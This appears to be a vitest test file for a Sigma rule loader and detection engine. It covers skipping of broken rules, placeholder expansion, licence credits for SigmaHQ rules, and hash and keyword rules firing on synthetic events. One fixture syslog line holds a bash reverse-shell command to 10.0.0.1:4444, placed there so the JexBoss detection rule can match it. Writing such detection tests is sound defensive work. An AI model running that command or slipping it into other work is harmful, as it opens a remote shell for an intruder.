// Loading rule folders never stops on one rule: what cannot parse, compile or find the rules it
// refers to is skipped with its file, id, title and reason; the others load and run. Also: a
// SigmaHQ rule's author and licence reach its findings, and Sigma correlation rules fire.
import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CaseStore } from '../store/case-store.ts';
import { tempDir } from '../testing/temp.ts';
import { buildFindings } from './findings-build.ts';
import { runRule } from './engine.ts';
import { buildProcessTree } from './process-tree.ts';
import { loadRuleFolders } from './rules-load.ts';
import { addCapture, call } from './testing/build-case.ts';

const FIXTURES = join(import.meta.dirname, 'sigma', 'fixtures');

const rule = (id: string, detection: string, extra = ''): string => `title: Rule ${id}\nid: ${id}\n${extra}detection:\n${detection}`;

describe('loading a rules folder', () => {
  const dir = tempDir();
  afterAll(() => dir.remove());

  it('skips a broken rule with its file, id, title and reason, and loads the others', () => {
    const folder = join(dir.path, 'mixed');
    mkdirSync(join(folder, 'sub'), { recursive: true });
    writeFileSync(join(folder, 'good.yml'), rule('good-1', '  sel:\n    op: openat\n  condition: sel\n'));
    writeFileSync(join(folder, 'sub', 'bad-yaml.yml'), 'title: [unclosed\nid: bad-1\n');
    writeFileSync(join(folder, 'sub', 'bad-mod.yml'), rule('bad-2', '  sel:\n    op|nosuchmodifier: x\n  condition: sel\n'));
    writeFileSync(join(folder, 'sub', 'bad-field.yml'), rule('bad-3', '  sel:\n    NoSuchField: x\n  condition: sel\n', 'logsource:\n  product: linux\n'));
    writeFileSync(join(folder, 'sub', 'placeholder.yml'), rule('bad-4', "  sel:\n    target|expand: '%admin_paths%'\n  condition: sel\n"));
    writeFileSync(join(folder, 'sub', 'lookahead.yml'), rule('bad-6', "  sel:\n    args|re: 'foo(?!bar)'\n  condition: sel\n"));
    writeFileSync(join(folder, 'sub', 'aggregation.yml'), rule('bad-7', '  sel:\n    op: x\n  condition: sel | count() > 5\n'));
    writeFileSync(join(folder, 'two-docs.yml'), `${rule('good-2', '  sel:\n    op: read\n  condition: sel\n')}---\n${rule('bad-5', '  sel:\n    op: x\n  condition: sel and nope\n')}`);
    const { rules, skipped, checks } = loadRuleFolders([folder]);
    expect(rules.map((r) => r.id).sort()).toEqual(['good-1', 'good-2']);
    const reasons = Object.fromEntries(skipped.map((s) => [s.id, s.reason]));
    expect(Object.keys(reasons).sort()).toEqual(['bad-1', 'bad-2', 'bad-3', 'bad-4', 'bad-5', 'bad-6', 'bad-7']);
    expect(reasons['bad-1']).toMatch(/^mixed\/sub\/bad-yaml\.yml:\d+: YAML/);
    expect(reasons['bad-2']).toMatch(/^mixed\/sub\/bad-mod\.yml:\d+: "op": unsupported modifier "\|nosuchmodifier"/);
    expect(reasons['bad-3']).toMatch(/field NoSuchField not mapped for logsource \{product: linux\}/);
    expect(reasons['bad-4']).toMatch(/placeholder %admin_paths% not configured/);
    expect(reasons['bad-5']).toMatch(/^mixed\/two-docs\.yml:\d+: condition names "nope"/);
    expect(reasons['bad-6']).toMatch(/regular expression for "args": uses lookaround .* RE2/);
    expect(reasons['bad-7']).toMatch(/aggregations .* not supported: write a Sigma correlation rule/);
    expect(skipped.find((s) => s.id === 'bad-2')).toMatchObject({ file: 'mixed/sub/bad-mod.yml', title: 'Rule bad-2' });
    expect(checks.filter((c) => c.status === 'loaded')).toHaveLength(2);
  });

  it('replaces %placeholders% of |expand with configured values', () => {
    const folder = join(dir.path, 'expand');
    mkdirSync(folder);
    writeFileSync(join(folder, 'p.yml'), rule('p-1', "  sel:\n    target|expand: '%admin_paths%/*'\n  condition: sel\n"));
    const loaded = loadRuleFolders([folder], { placeholders: new Map([['admin_paths', ['/root', '/etc']]]) });
    expect(loaded.skipped).toEqual([]);
    expect(loaded.rules[0]?.selections.get('sel')?.alternatives[0]?.[0]?.values).toEqual(['/root/*', '/etc/*']);
  });

  it('credits SigmaHQ rules: author from the rule, DRL 1.1 from the folder\'s LICENSE', () => {
    const folder = join(dir.path, 'sigmahq', 'rules');
    mkdirSync(folder, { recursive: true });
    cpSync(join(FIXTURES, 'lnx_susp_jexboss.yml'), join(folder, 'lnx_susp_jexboss.yml'));
    cpSync(join(FIXTURES, 'LICENSE'), join(dir.path, 'sigmahq', 'LICENSE'));
    const [jexboss] = loadRuleFolders([folder]).rules;
    expect(jexboss).toMatchObject({ id: '8ec2c8b4-557a-4121-b87c-5dfb3a602fae', author: 'Florian Roth (Nextron Systems)', license: 'DRL 1.1' });
  });

  it('skips a correlation whose referenced rule is missing', () => {
    const folder = join(dir.path, 'corr-missing');
    mkdirSync(folder);
    writeFileSync(join(folder, 'c.yml'), 'title: Many\nid: c-1\ncorrelation:\n  type: event_count\n  rules: [not-here]\n  group-by: [host]\n  timespan: 1m\n  condition: {gte: 3}\n');
    const { rules, skipped } = loadRuleFolders([folder]);
    expect(rules).toEqual([]);
    expect(skipped[0]?.reason).toMatch(/referenced rule not loaded: not-here/);
  });
});

describe('SigmaHQ rules run and findings credit them', () => {
  const dir = tempDir();
  let store: CaseStore;
  beforeAll(async () => {
    store = await CaseStore.open(dir.file('c.duckdb'));
    // Sysmon driver loads (EventID 6) as the EVTX importer keeps them, and one syslog line.
    const sysmon = (hashes: string) => ({ Provider: 'Microsoft-Windows-Sysmon', EventID: '6', Hashes: hashes });
    const events = Array.from({ length: 3000 }, (_, i) =>
      call(i * 0.01, 1000 + (i % 50), 'DriverLoad', `C:\\Windows\\System32\\drivers\\d${i}.sys`, '', { fields: sysmon(`MD5=${(i * 7919).toString(16).padStart(32, '0')},SHA256=${'0'.repeat(64)}`) }),
    );
    // One driver whose MD5 is in the SigmaHQ list (its 800 values: MD5, SHA1, SHA256, IMPHASH).
    events.push(call(31, 4242, 'DriverLoad', 'C:\\Windows\\Temp\\evil.sys', '', { fields: sysmon('SHA1=00,MD5=5BE61A24F50EB4C94D98B8A82EF58DCF,IMPHASH=00') }));
    events.push(call(32, 77, 'syslog', null, 'bash -c /bin/bash -i >&/dev/tcp/10.0.0.1/4444 0>&1', { kind: 'log', category: 'log', process: 'jboss' }));
    await addCapture(store, events);
    await buildProcessTree(store);
  });
  afterAll(() => {
    store.close();
    dir.remove();
  });

  it('an ~800-value hash rule runs over 3,000 events and finds the one listed driver', { timeout: 60_000 }, async () => {
    const { rules, skipped } = loadRuleFolders([FIXTURES]);
    expect(skipped).toEqual([]);
    const drivers = rules.find((r) => r.id === '05296024-fe8a-4baf-8f3d-9a5f5624ceb2');
    expect(drivers?.selections.get('selection')?.alternatives[0]?.[0]?.values.length).toBeGreaterThan(700);
    const started = Date.now();
    const hits = await runRule(store, drivers as never);
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(hits.map((h) => h.events[0]?.pid)).toEqual([4242]);
  });

  it('a finding from a SigmaHQ keyword rule names the rule id, title, author and licence', async () => {
    const { rules } = loadRuleFolders([FIXTURES]);
    const jexboss = rules.find((r) => r.id === '8ec2c8b4-557a-4121-b87c-5dfb3a602fae');
    expect(jexboss).toBeDefined();
    const hits = await runRule(store, jexboss as never);
    expect(hits.map((h) => h.events[0]?.pid)).toEqual([77]);
    const [finding] = buildFindings([{ rule: jexboss as never, hits }]);
    expect(finding).toMatchObject({ rule: '8ec2c8b4-557a-4121-b87c-5dfb3a602fae', title: 'JexBoss Command Sequence', rule_author: 'Florian Roth (Nextron Systems)', rule_license: 'DRL 1.1' });
    expect(finding?.explanation).toMatch(/Rule by Florian Roth \(Nextron Systems\), licence DRL 1\.1\./);
  });
});
